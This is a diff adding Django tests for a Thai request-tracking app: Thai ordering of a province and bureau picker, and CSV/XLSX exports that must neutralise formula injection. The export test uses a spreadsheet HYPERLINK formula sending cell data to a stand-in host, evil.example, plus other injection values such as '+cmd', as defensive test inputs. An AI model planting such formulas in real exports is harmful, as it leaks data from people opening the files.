@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import io
+import re
 import uuid
+from typing import Any
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -306,3 +308,61 @@ def test_the_home_page_shows_what_waits_for_each_person(org: Org) -> None:
     assert reverse("requests:pool") in html
     html = client_for(org.officer).get(reverse("home")).content.decode()
     assert reverse("requests:new") in html
+
+
+def test_the_target_picker_lists_provinces_and_bureaus_in_thai_order(org: Org) -> None:
+    from workdays.thai import thai_key
+
+    html = client_for(org.officer).get(reverse("requests:new")).content.decode()
+    select = re.search(r'<select[^>]*name="target"[^>]*>(.*?)</select>', html, re.S)
+    assert select is not None
+    groups = re.findall(r"<optgroup[^>]*>(.*?)</optgroup>", select[1], re.S)
+    bureaus, provinces = (
+        [o.strip() for o in re.findall(r"<option[^>]*>(.*?)</option>", g)] for g in groups[1:3]
+    )
+    assert len(provinces) == 75  # another province: the 76 with an office but one's own
+    assert provinces == sorted(provinces, key=thai_key)
+    assert provinces.index("เชียงราย") < provinces.index("อ่างทอง")
+    assert bureaus == sorted(bureaus, key=thai_key)
+
+
+EVIL_SUBJECT = '=HYPERLINK("https://evil.example/?leak="&A1,"x")'
+
+
+def test_the_request_exports_hold_no_formula_and_typed_cells(org: Org) -> None:
+    """Issue 11 item 9: a subject typed as a formula is text in both files; the XLSX has date cells, the
+    header frozen and a filter; a Thai file has no English."""
+    import csv
+    import datetime
+
+    for subject in (EVIL_SUBJECT, "-2+3", "@SUM(A1)", "+cmd", "ขอหารือ"):
+        sent_request(org, subject=subject)
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    for user, name in ((org.officer, "mine"), (org.director, "province"), (org.central, "all")):
+        client = client_for(user)
+        response = client.get(reverse("requests:export", args=["csv"]) + f"?list={name}")
+        assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        assert len(rows) == 1 + 5
+        assert not [value for row in rows for value in row if value.startswith(starts)]
+        assert f"'{EVIL_SUBJECT}" in [row[1] for row in rows]
+        # Apart from what was typed (the subject), a Thai file has no English.
+        assert not [v for row in rows for v in row[:1] + row[2:] if re.search("[A-Za-z]", v)]
+
+        response = client.get(reverse("requests:export", args=["xlsx"]) + f"?list={name}")
+        sheet: Any = load_workbook(io.BytesIO(response.content)).active
+        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:N{sheet.max_row}"
+        assert sheet.max_row == 1 + 5
+        assert all(sheet.column_dimensions[c.column_letter].width >= 8 for c in sheet[1])
+        for row in sheet.iter_rows(min_row=2):
+            assert all(cell.data_type != "f" for cell in row)
+            typed = row[1]
+            assert typed.data_type == "s" and typed.quotePrefix == typed.value.startswith(starts)
+            sent = row[10]
+            assert sent.is_date and isinstance(sent.value, datetime.datetime)
+            assert sent.number_format.startswith("[$-th-TH,107]")
+            others = row[:1] + row[2:]
+            assert not [
+                c.value for c in others if isinstance(c.value, str) and re.search("[A-Za-z]", c.value)
+            ]
+        assert EVIL_SUBJECT in [row[1].value for row in sheet.iter_rows(min_row=2)]
